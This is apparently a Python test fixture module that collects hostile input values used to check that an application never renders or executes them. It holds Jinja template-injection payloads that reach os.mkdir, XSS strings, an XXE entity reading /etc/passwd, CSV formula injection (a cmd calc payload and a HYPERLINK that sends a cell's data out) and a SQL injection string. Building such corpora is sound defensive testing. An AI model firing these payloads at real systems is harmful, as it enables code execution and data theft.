"""A corpus of hostile text values, and the canary that proves none of them ran.

Used by ``tests/test_hostile.py`` (every command and the Python API) and by the fuzz
strategies (``tests/fuzz_strategies.py``). The template payloads would create the folder
:data:`CANARY` in the current directory if any template engine rendered them; the tests run
in ``tmp_path`` and assert it is never there.
"""

from __future__ import annotations

CANARY = "PWNED"
"""Name of the folder the code-running payloads would create in the working directory."""

EVALUATED = "12345000"
"""What :data:`MATH` reads as when a template engine evaluates it."""

MATH = "{{ 12345*1000 }}"
"""A template expression whose evaluated form (:data:`EVALUATED`) appears nowhere else."""

TEMPLATE_PAYLOADS = (
    "{{ lipsum.__globals__.os.mkdir(dict(PWNED=1)|first) }}",
    "{{ cycler.__init__.__globals__.os.mkdir(dict(PWNED=1)|first) }}",
    "{% for x in [1] %}{{ lipsum.__globals__.os.mkdir(dict(PWNED=1)|first) }}{% endfor %}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.mkdir("
    "dict(PWNED=1)|first) }}",
    MATH,
    "{{7*7}}",
    "{{ 'x' ~ 'y' }}",
    "{# a comment #}x",
    "{% raw %}",
    "{{ unclosed",
    "{% if %}",
    "}}{{",
    "{%- set x = 1 -%}",
    "{{ request }}{% load static %}{% debug %}",  # Django
    "${7*7}#{7*7}<%= 7*7 %>",
    "50% of {} and %s%n%x",
    "$x^$ $\\undefined{$",  # matplotlib mathtext (the static map of the PDF)
    "$\\frac{a}{b}$",
)
"""Jinja and Django template syntax, broken syntax and other engines' expressions."""

MARKUP_PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=http://example.invalid/></iframe>",
    "<!-- x",
    "]]><![CDATA[",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "&amp; &lt; &#x3c; &",
)
"""HTML, script, link and XML payloads."""

CSV_PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)
"""Cells a spreadsheet would read as a formula (OWASP CSV injection)."""

ODD_TEXT = (
    "A" * 10_000,
    "ctrl \x01\x07\x08\x1b[31m red \x7f",
    "rtl \u202egnp.exe",
    "zero\u200bwidth\ufeff",
    "line\nbreak\r\nand\u2028separators\u2029",
    "'; DROP TABLE impacts; --",
    "\\u007b\\u007b 7*7 \\u007d\\u007d",
    "émoji 🌊 ユニコード",
)
"""Very long text, control characters, bidi marks, separators, SQL and odd escapes."""

NUL = "nul\x00after"
"""Text with a NUL: a GeoPackage or shapefile may refuse or cut it (never a crash)."""

ALL = TEMPLATE_PAYLOADS + MARKUP_PAYLOADS + CSV_PAYLOADS + ODD_TEXT
"""Every hostile value but :data:`NUL`."""

SHORT = tuple(v for v in ALL if len(v) < 200)
"""The corpus without the 10,000-character string (for ids shown in a browser)."""


def hostile_ids(n: int | None = None) -> list[str]:
    """Return ``n`` distinct hostile ids (all of :data:`ALL` by default), in a fixed order."""
    values = list(ALL)
    return values if n is None else values[:n]
